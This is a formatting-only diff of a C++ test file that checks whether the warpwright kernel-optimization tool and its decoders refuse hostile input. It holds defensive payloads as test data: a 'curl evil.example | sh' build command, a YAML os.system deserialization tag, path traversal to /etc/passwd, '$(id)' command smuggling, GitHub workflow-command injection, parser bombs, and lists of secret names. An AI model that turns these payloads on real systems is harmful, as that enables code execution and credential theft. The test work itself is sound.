@@ -1,4 +1,5 @@
-// Hostile input against the real programs and decoders. tests/threats/README.md says which threat is held by which test.
+// Hostile input against the real programs and decoders. tests/threats/README.md says which threat is held by which
+// test.
 #include <fmt/format.h>
 #include <gtest/gtest.h>
 
@@ -26,7 +27,9 @@ using nlohmann::json;
 class ThreatsTest : public testing::Test {
  protected:
   void SetUp() override {
-    for (const char* part : {"src", "include"}) fs::copy(fs::path(WW_SOURCE_DIR) / "config/examples/kernels" / part, repository.path() / part, fs::copy_options::recursive);
+    for (const char* part : {"src", "include"})
+      fs::copy(fs::path(WW_SOURCE_DIR) / "config/examples/kernels" / part, repository.path() / part,
+               fs::copy_options::recursive);
     repository.Write(".warpwright.yml", Manifest("src/transpose.cu"));
     repository.Commit("kernels");
   }
@@ -47,7 +50,9 @@ class ThreatsTest : public testing::Test {
     // Both streams in the order in which a runner's log would have them.
     command.argv = {"/bin/sh", "-c", "exec \"$@\" 2>&1", "sh", std::string(WW_BINARY_DIR) + "/daemon/cli/warpwright"};
     command.argv.insert(command.argv.end(), arguments.begin(), arguments.end());
-    for (const std::string& argument : {std::string("--repo"), repository.path().string(), std::string("--cache"), (folder.path() / "cache").string()}) command.argv.push_back(argument);
+    for (const std::string& argument : {std::string("--repo"), repository.path().string(), std::string("--cache"),
+                                        (folder.path() / "cache").string()})
+      command.argv.push_back(argument);
     command.env = base::MinimalEnvironment();
     command.env.merge(environment);
     command.deadline = std::chrono::minutes(5);
@@ -85,8 +90,11 @@ TEST_F(ThreatsTest, ForksAreRefusedBeforeAnythingIsFetched) {
     base::Command command;
     command.argv = {"/bin/bash", std::string(WW_SOURCE_DIR) + "/config/action/guard"};
     command.env = base::MinimalEnvironment();
-    command.env.merge(std::map<std::string, std::string>{{"WW_EVENT", c.event}, {"WW_PULL_REQUEST_HEAD", c.head}, {"WW_WORKFLOW_RUN_HEAD", c.workflow_head},
-                                                         {"WW_REPOSITORY", "acme/kernels"}, {"GITHUB_OUTPUT", output.string()}});
+    command.env.merge(std::map<std::string, std::string>{{"WW_EVENT", c.event},
+                                                         {"WW_PULL_REQUEST_HEAD", c.head},
+                                                         {"WW_WORKFLOW_RUN_HEAD", c.workflow_head},
+                                                         {"WW_REPOSITORY", "acme/kernels"},
+                                                         {"GITHUB_OUTPUT", output.string()}});
     const auto done = ::warpwright::base::Run(command);
     ASSERT_TRUE(done);
     EXPECT_EQ(done->exit_code, c.code) << c.event << " " << c.head << done->err;
@@ -97,7 +105,8 @@ TEST_F(ThreatsTest, ForksAreRefusedBeforeAnythingIsFetched) {
 // 5: everything that runs below the daemon, seen from outside while a job is worked on and published.
 TEST(ThreatsDaemon, NoChildHasASecret) {
   DaemonKit kit({.programs = std::string(WW_BINARY_DIR) + "/daemon/cli", .source = WW_SOURCE_DIR});
-  const std::string key = *base::ReadFile(kit.folder() / "app-key.pem"), webhook = *base::ReadFile(kit.folder() / "webhook-secret");
+  const std::string key = *base::ReadFile(kit.folder() / "app-key.pem"),
+                    webhook = *base::ReadFile(kit.folder() / "webhook-secret");
   kit.Start();
   kit.ChangeKernel(1);
   const std::string commit = kit.CommitAndPush("row_sum");
@@ -105,7 +114,8 @@ TEST(ThreatsDaemon, NoChildHasASecret) {
   ASSERT_TRUE(kit.Wait([&] {
     for (const auto& process : kit.Descendants()) {
       const std::string all = process.command + "\n" + process.environment;
-      for (const std::string& secret : {key, webhook, std::string("ghs_"), std::string("person-token"), std::string("app-key"), std::string("webhook-secret"), std::string("TOKEN")})
+      for (const std::string& secret : {key, webhook, std::string("ghs_"), std::string("person-token"),
+                                        std::string("app-key"), std::string("webhook-secret"), std::string("TOKEN")})
         EXPECT_EQ(all.find(secret), std::string::npos) << all;
       for (const std::string& descriptor : process.descriptors)
         for (const char* place : {"app-key", "webhook-secret", "daemon.sqlite", "daemon.lock", "config.yml", "socket:"})
@@ -116,12 +126,15 @@ TEST(ThreatsDaemon, NoChildHasASecret) {
     const json dump = kit.hub().Dump(DaemonKit::kRepository);
     return !dump.at("checks").empty();
   })) << kit.log();
-  EXPECT_TRUE(commands.contains(" optimize ") && commands.contains("warpwright-worker")) << "nothing was seen, so nothing was tested";
+  EXPECT_TRUE(commands.contains(" optimize ") && commands.contains("warpwright-worker"))
+      << "nothing was seen, so nothing was tested";
   std::string configuration;
   for (const auto& entry : fs::recursive_directory_iterator(kit.state()))
-    if (entry.is_regular_file() && entry.path().filename() == "config") configuration += base::ReadFile(entry.path()).value_or("");
+    if (entry.is_regular_file() && entry.path().filename() == "config")
+      configuration += base::ReadFile(entry.path()).value_or("");
   EXPECT_NE(configuration, "") << "no mirror";
-  for (const char* secret : {"ghs_", "x-access-token", "Authorization"}) EXPECT_EQ(configuration.find(secret), std::string::npos) << configuration;
+  for (const char* secret : {"ghs_", "x-access-token", "Authorization"})
+    EXPECT_EQ(configuration.find(secret), std::string::npos) << configuration;
 }
 
 // 6: a repository whose files are not what they are called.
@@ -129,7 +142,8 @@ TEST_F(ThreatsTest, PathsThatLeaveTheRepositoryAreNotRead) {
   const auto expect_refused = [&](const std::string& file, const std::string& what) {
     repository.Write(".warpwright.yml", Manifest(file));
     repository.Commit(what);
-    for (const auto& arguments : {std::vector<std::string>{"check"}, {"optimize", "--publish", "none", "--device", "sim:h200"}}) {
+    for (const auto& arguments :
+         {std::vector<std::string>{"check"}, {"optimize", "--publish", "none", "--device", "sim:h200"}}) {
       const base::Completed done = Warpwright(arguments);
       EXPECT_NE(done.exit_code, 0) << what << ": " << done.out;
       EXPECT_EQ(done.out.find("root:"), std::string::npos) << what << ": " << done.out;
@@ -163,15 +177,18 @@ TEST_F(ThreatsTest, IncludesDoNotReadTheMachine) {
     repository.Commit(include);
     const base::Completed done = Warpwright({"optimize", "--publish", "none", "--device", "sim:h200"});
     EXPECT_NE(done.out.find("transpose"), std::string::npos);
-    for (const char* content : {"root:", "repositoryformatversion"}) EXPECT_EQ(done.out.find(content), std::string::npos) << done.out;
+    for (const char* content : {"root:", "repositoryformatversion"})
+      EXPECT_EQ(done.out.find(content), std::string::npos) << done.out;
   }
 }
 
 // 13: what belongs to the operator has no key in the repository's file.
 TEST_F(ThreatsTest, ARepositoryCannotAskForEndpointsCommandsOrKeys) {
-  for (const char* wish : {"github: {api: \"http://evil.example/api\"}\n", "base_url: http://evil.example\n", "api_key: {env: HOME}\n", "build: {command: \"curl evil.example | sh\"}\n",
-                           "state: /etc\n", "devices: [cuda:0]\n", "listen: {status: \"0.0.0.0:80\"}\n", "author: {name: root}\n", "policy: {max_rounds: 1, command: \"sh\"}\n",
-                           "pull_requests: {token: {env: GITHUB_TOKEN}}\n"}) {
+  for (const char* wish :
+       {"github: {api: \"http://evil.example/api\"}\n", "base_url: http://evil.example\n", "api_key: {env: HOME}\n",
+        "build: {command: \"curl evil.example | sh\"}\n", "state: /etc\n", "devices: [cuda:0]\n",
+        "listen: {status: \"0.0.0.0:80\"}\n", "author: {name: root}\n", "policy: {max_rounds: 1, command: \"sh\"}\n",
+        "pull_requests: {token: {env: GITHUB_TOKEN}}\n"}) {
     repository.Write(".warpwright.yml", Manifest("src/transpose.cu", wish));
     repository.Commit("a wish");
     const base::Completed done = Warpwright({"check"});
@@ -184,9 +201,17 @@ TEST_F(ThreatsTest, ARepositoryCannotAskForEndpointsCommandsOrKeys) {
 TEST_F(ThreatsTest, HostileYamlIsRefusedAtOnce) {
   std::string deep = "version: 1\nkernels: ", aliases = "a: &a [x, x, x, x, x, x, x, x]\n";
   for (int i = 0; i < 5'000; ++i) deep += '[';
-  for (char c = 'b'; c < 'j'; ++c) aliases += fmt::format("{0}: &{0} [*{1}, *{1}, *{1}, *{1}, *{1}, *{1}, *{1}]\n", c, static_cast<char>(c - 1));
-  const std::string texts[] = {deep, aliases, "a: &x\n  b: *x\n", "version: 1\nversion: 2\n", std::string(300'000, '#'), "version: !!python/object/apply:os.system [id]\n",
-                               "<<: {version: 1}\n", std::string("version: 1\0kernels: []\n", 23), "\xff\xfe\x00v"};
+  for (char c = 'b'; c < 'j'; ++c)
+    aliases += fmt::format("{0}: &{0} [*{1}, *{1}, *{1}, *{1}, *{1}, *{1}, *{1}]\n", c, static_cast<char>(c - 1));
+  const std::string texts[] = {deep,
+                               aliases,
+                               "a: &x\n  b: *x\n",
+                               "version: 1\nversion: 2\n",
+                               std::string(300'000, '#'),
+                               "version: !!python/object/apply:os.system [id]\n",
+                               "<<: {version: 1}\n",
+                               std::string("version: 1\0kernels: []\n", 23),
+                               "\xff\xfe\x00v"};
   for (const std::string& text : texts) {
     repository.Write(".warpwright.yml", text);
     const auto begin = std::chrono::steady_clock::now();
@@ -204,10 +229,18 @@ TEST(ThreatsDecoders, HostileJsonIsAnErrorAtOnce) {
     for (int i = 0; i < 200'000; ++i) text += "{\"a\":";
     return text;
   }();
-  const std::string texts[] = {deep, deep + std::string(1'000'000, ']'), objects, "{\"repository\":{\"full_name\":\"\xff\xfe/../x\"}}", "{\"a\":1e999999}", "{\"a\":", "",
-                               "{\"repository\":{\"full_name\":\"../../etc/passwd\"},\"ref\":\"refs/heads/../../x\",\"before\":\"x\",\"after\":\"y\"}"};
+  const std::string texts[] = {deep,
+                               deep + std::string(1'000'000, ']'),
+                               objects,
+                               "{\"repository\":{\"full_name\":\"\xff\xfe/../x\"}}",
+                               "{\"a\":1e999999}",
+                               "{\"a\":",
+                               "",
+                               "{\"repository\":{\"full_name\":\"../../etc/passwd\"},\"ref\":\"refs/heads/../../"
+                               "x\",\"before\":\"x\",\"after\":\"y\"}"};
   for (const std::string& text : texts) {
-    for (const char* event : {"push", "issue_comment", "pull_request", "check_run"}) EXPECT_FALSE(forge::ParseWebhook(event, text)) << event << " " << text.substr(0, 80);
+    for (const char* event : {"push", "issue_comment", "pull_request", "check_run"})
+      EXPECT_FALSE(forge::ParseWebhook(event, text)) << event << " " << text.substr(0, 80);
     EXPECT_FALSE(service::ParsePlan(text)) << text.substr(0, 80);
     EXPECT_FALSE(service::ParseOptimization(text, "k")) << text.substr(0, 80);
     EXPECT_FALSE(service::ParseNight(text)) << text.substr(0, 80);
@@ -216,11 +249,13 @@ TEST(ThreatsDecoders, HostileJsonIsAnErrorAtOnce) {
 
 // 10: a command is the first line, of known words only.
 TEST(ThreatsDecoders, OnlyPlainCommandsAreCommands) {
-  for (const char* text : {"please\n/warpwright stop", "> /warpwright stop", "`/warpwright stop`", "//warpwright stop", "/warpwrightstop", "<!-- -->/warpwright stop"}) {
+  for (const char* text : {"please\n/warpwright stop", "> /warpwright stop", "`/warpwright stop`", "//warpwright stop",
+                           "/warpwrightstop", "<!-- -->/warpwright stop"}) {
     const auto command = forge::ParseSlashCommand(text);
     EXPECT_TRUE(command && !*command) << text;
   }
-  for (const char* text : {"/warpwright optimize $(id)", "/warpwright optimize ../../x", "/warpwright optimize a b c", "/warpwright merge", "/warpwright optimize a;b", "/warpwright ignore --state=/etc"}) {
+  for (const char* text : {"/warpwright optimize $(id)", "/warpwright optimize ../../x", "/warpwright optimize a b c",
+                           "/warpwright merge", "/warpwright optimize a;b", "/warpwright ignore --state=/etc"}) {
     const auto command = forge::ParseSlashCommand(text);
     EXPECT_FALSE(command && *command) << text;
   }
@@ -228,13 +263,16 @@ TEST(ThreatsDecoders, OnlyPlainCommandsAreCommands) {
 
 // 12: a compiler repeats source lines; a runner takes a line that begins with :: for a command.
 TEST_F(ThreatsTest, SourceLinesDoNotBecomeWorkflowCommands) {
-  const std::string hostile = "::set-env name=PATH::/tmp/evil", mask = "::add-path::/tmp/evil", old = "##[add-path]/tmp/evil";
+  const std::string hostile = "::set-env name=PATH::/tmp/evil", mask = "::add-path::/tmp/evil",
+                    old = "##[add-path]/tmp/evil";
   std::string text = *base::ReadFile(repository.path() / "src/transpose.cu");
   text.replace(text.find("    out[x * rows"), 0, hostile + "\n" + mask + "\n" + old + "\n");
   repository.Write("src/transpose.cu", text);
   repository.Commit("hostile");
-  const base::Completed done = Warpwright({"optimize", "--publish", "none", "--device", "sim:h200", "--annotations", "--output", (folder.path() / "output").string(), "--summary", (folder.path() / "summary").string()},
-                                    {{"GITHUB_ACTIONS", "true"}});
+  const base::Completed done =
+      Warpwright({"optimize", "--publish", "none", "--device", "sim:h200", "--annotations", "--output",
+                  (folder.path() / "output").string(), "--summary", (folder.path() / "summary").string()},
+                 {{"GITHUB_ACTIONS", "true"}});
   EXPECT_NE(done.out.find("transpose"), std::string::npos) << done.out;
   std::istringstream lines(done.out);
   std::string stopped;
@@ -245,7 +283,8 @@ TEST_F(ThreatsTest, SourceLinesDoNotBecomeWorkflowCommands) {
     } else if (line.starts_with("::stop-commands::")) {
       stopped = line.substr(17);
     } else {
-      EXPECT_FALSE(line.starts_with("::set-env") || line.starts_with("::add-path") || line.starts_with("##[add-path")) << done.out;
+      EXPECT_FALSE(line.starts_with("::set-env") || line.starts_with("::add-path") || line.starts_with("##[add-path"))
+          << done.out;
     }
   }
   const std::string output = base::ReadFile(folder.path() / "output").value_or("");
@@ -255,7 +294,8 @@ TEST_F(ThreatsTest, SourceLinesDoNotBecomeWorkflowCommands) {
 // 15: what one repository taught is not known to another.
 TEST_F(ThreatsTest, ExperienceStaysWithItsRepository) {
   const auto state = [&](const char* name) { return (folder.path() / name).string(); };
-  const base::Completed done = Warpwright({"optimize", "--publish", "none", "--device", "sim:h200", "--max-rounds", "1", "--state", state("a"), "--quiet"});
+  const base::Completed done = Warpwright(
+      {"optimize", "--publish", "none", "--device", "sim:h200", "--max-rounds", "1", "--state", state("a"), "--quiet"});
   ASSERT_EQ(done.exit_code, 0) << done.out;
   const auto count = [&](const char* name) {
     const base::Completed shown = Warpwright({"memory", "show", "--json", "--quiet", "--state", state(name)});
@@ -271,16 +311,20 @@ TEST_F(ThreatsTest, ExperienceStaysWithItsRepository) {
 }
 
 TEST(ThreatsDecoders, EveryRepositoryHasItsOwnFolder) {
-  const std::pair<const char*, const char*> places[] = {{"acme/kernels", "https://github.com/acme/kernels.git"},  {"acme/kernels", "https://ghe.example.com/acme/kernels.git"},
-                                                        {"acme/Kernels", "https://github.com/acme/Kernels.git"},  {"acme-kernels", "/srv/acme-kernels"},
-                                                        {"/srv/acme/kernels", "/srv/acme/kernels"},               {"../../etc", "/../../etc"},
+  const std::pair<const char*, const char*> places[] = {{"acme/kernels", "https://github.com/acme/kernels.git"},
+                                                        {"acme/kernels", "https://ghe.example.com/acme/kernels.git"},
+                                                        {"acme/Kernels", "https://github.com/acme/Kernels.git"},
+                                                        {"acme-kernels", "/srv/acme-kernels"},
+                                                        {"/srv/acme/kernels", "/srv/acme/kernels"},
+                                                        {"../../etc", "/../../etc"},
                                                         {"acme/..", "https://github.com/acme/.."}};
   std::set<std::string> folders;
   for (const auto& [name, url] : places) {
     std::string folder = service::FolderName(name, url);
     EXPECT_EQ(folder.find('/'), std::string::npos) << folder;
     EXPECT_FALSE(folder.starts_with(".")) << folder;
-    std::transform(folder.begin(), folder.end(), folder.begin(), [](unsigned char c) { return std::tolower(c); });  // file systems that do not tell them apart
+    std::transform(folder.begin(), folder.end(), folder.begin(),
+                   [](unsigned char c) { return std::tolower(c); });  // file systems that do not tell them apart
     EXPECT_TRUE(folders.insert(folder).second) << folder;
   }
 }
@@ -307,9 +351,12 @@ TEST(ThreatsAction, UsesAreOfOneCommitAndInputsGoThroughTheEnvironment) {
       if (text.starts_with("uses:")) {
         const std::string what = text.substr(text.find_first_not_of(' ', 5));
         const size_t at = what.find('@');
-        const bool ours = what.starts_with("./") || what.starts_with("OWNER/") || what.find("warpwright@") != std::string::npos;
+        const bool ours =
+            what.starts_with("./") || what.starts_with("OWNER/") || what.find("warpwright@") != std::string::npos;
         const std::string version = at == std::string::npos ? "" : what.substr(at + 1, 40);
-        EXPECT_TRUE(ours || (version.size() == 40 && version.find_first_not_of("0123456789abcdef") == std::string::npos)) << place;
+        EXPECT_TRUE(ours ||
+                    (version.size() == 40 && version.find_first_not_of("0123456789abcdef") == std::string::npos))
+            << place;
       }
       if (run_indent != std::string::npos && indent <= run_indent) run_indent = std::string::npos;
       if (text.starts_with("run:")) run_indent = indent;
@@ -339,7 +386,8 @@ TEST(ThreatsTable, NamesTestsThatExist) {
     const size_t end = page.find('`', at + 1);
     const std::string name = page.substr(at + 1, end - at - 1);
     at = end + 1;
-    if (name.find('.') == std::string::npos || name.find_first_of(" /$") != std::string::npos || name.ends_with(".yml")) continue;
+    if (name.find('.') == std::string::npos || name.find_first_of(" /$") != std::string::npos || name.ends_with(".yml"))
+      continue;
     ++named;
     EXPECT_TRUE(tests.contains(name)) << name;
   }
